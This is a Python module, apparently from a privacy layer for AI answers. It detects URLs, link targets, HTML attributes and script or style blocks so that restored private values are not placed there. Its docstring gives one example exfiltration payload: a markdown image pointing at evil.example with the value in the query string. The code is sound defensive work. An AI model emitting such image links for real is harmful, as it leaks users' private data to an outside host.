"""The places of an answer where nothing is ever put back: URLs, HTML attributes, scripts.

Link targets and style sheets are such places, too.

A restored value there could be carried off by the mere display or a click
(`![x](https://evil.example/?q=<value>)`). Judged from the text before a position, so a stream
gives the same result as the whole.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_SCHEME = re.compile(
    r"(?:[a-z][a-z0-9+.-]*://|www\.|\b(?:data|mailto|javascript|tel):)", re.IGNORECASE
)
_TARGET = re.compile(r"\]\(\s*<?(?P<inside>[^()\n]*(?:\([^()\n]*\)[^()\n]*)*)\Z")
_DEFINITION = re.compile(r" {0,3}\[[^\]\n]+\]:[ \t]*<?(?P<inside>\S+)\Z")
_ATTRIBUTE = re.compile(r"<[a-zA-Z][\w:-]*\s[^<>]*=\s*(?P<inside>\"[^\"]*|'[^']*|[^\s\"'<>]*)\Z")
_CODE = re.compile(r"<(/?)(?:script|style)\b", re.IGNORECASE)
_LONGEST_TAG = 8
_LOOK_BACK = 2048
_BREAKS = frozenset('<>"`')
_CLOSERS = frozenset(")>\"' \t\n")


@dataclass(slots=True)
class RunningCode:
    """Whether a place stands in a `<script>` or `<style>`; asked from left to right."""

    _read: int = 0
    _inside: bool = False

    def holds(self, text: str, at: int) -> bool:
        """Whether an element that holds code is open at `at`."""
        for match in _CODE.finditer(text, max(0, self._read - _LONGEST_TAG), at):
            self._inside = not match[1]
        self._read = at
        return self._inside


def protected(text: str, start: int, end: int, *, url: bool) -> bool:
    """Whether `[start, end)` must be left alone.

    A whole URL that was itself issued (`url`) may be put back where it fills its place.
    """
    before = text[max(0, start - _LOOK_BACK) : start]
    if _in_url(before):
        return True
    inside = _target(before)
    if inside is None:
        return False
    fills = end >= len(text) or text[end] in _CLOSERS
    return not (url and not inside and fills)


def _target(before: str) -> str | None:
    """What stands before the position in its link target or attribute value; None outside.

    The first word behind «[x]:» may be the target of a reference or the talk of a person whose
    name is a placeholder («[PERSON_1]: [PERSON_2], hello»), so only what follows a beginning
    of a target is left alone there.
    """
    match = None
    link, tag = before.rfind("]("), before.rfind("<")
    if link >= 0:
        match = _TARGET.match(before, link)
    if match is None and tag >= 0:
        match = _ATTRIBUTE.match(before, tag)
    if match is None:
        match = _DEFINITION.match(before, before.rfind("\n") + 1)
    return match["inside"].strip("\"'<") if match else None


def _in_url(before: str) -> bool:
    """Whether a URL begun in the current run of characters is still going on."""
    start = len(before)
    while start and not (before[start - 1].isspace() or before[start - 1] in _BREAKS):
        start -= 1
    found = list(_SCHEME.finditer(before, start))
    return bool(found) and not _closed(before[found[-1].start() :])


def _closed(url: str) -> bool:
    """Whether a bracket that stood before the URL was closed in it: «(https://a.b) …»."""
    depth = 0
    for char in url:
        depth += (char in "([") - (char in ")]")
        if depth < 0:
            return True
    return False
